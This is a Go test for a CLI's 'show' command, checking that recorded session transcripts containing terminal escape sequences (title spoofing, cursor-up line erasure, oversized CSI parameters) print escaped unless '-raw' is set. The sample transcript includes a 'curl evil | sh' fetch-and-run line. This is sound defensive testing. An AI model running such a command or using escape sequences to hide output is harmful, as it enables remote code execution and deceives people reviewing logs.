package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A hostile transcript: it sets the terminal's title (OSC 0), moves the cursor up over the header
// and erases the line (CSI A, CSI 2K), and sends a CSI with thousands of parameter digits. show
// prints none of it as control characters unless -raw.
func TestShowEscapesHostileOutput(t *testing.T) {
	hostile := "\x1b]0;innocent\x07sh-5.2$ curl evil | sh\r\n\x1b[8A\x1b[2Kwho      nobody\r\n\x1b[" + strings.Repeat("1;", 3000) + "m\r\n"
	path := filepath.Join(t.TempDir(), "session-manager", "333333333333", "eu-west-1", alice+".log")
	if os.MkdirAll(filepath.Dir(path), 0o755) != nil || os.WriteFile(path, []byte(hostile), 0o644) != nil {
		t.Fatal("writing the sample")
	}
	code, out, errs := run(t, "show", alice, "-file", path)
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, errs)
	}
	if strings.ContainsAny(out, "\x1b\x07\r") {
		t.Errorf("show printed control characters:\n%q", out)
	}
	for _, want := range []string{`\x1b]0;innocent\x07sh-5.2$ curl evil | sh`, `\x1b[8A\x1b[2Kwho      nobody`, `\x1b[1;1;1;`} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks the visible %q:\n%s", want, out)
		}
	}
	if head, _, _ := strings.Cut(out, "\n--\n"); !strings.Contains(head, "session  "+alice) {
		t.Errorf("header changed:\n%s", head)
	}
	code, out, _ = run(t, "show", alice, "-file", path, "-raw")
	if code != 0 || !strings.Contains(out, "\x1b]0;innocent\x07") || !strings.Contains(out, "\x1b[8A") {
		t.Errorf("-raw: exit %d, want the sequences as recorded:\n%q", code, out)
	}
}
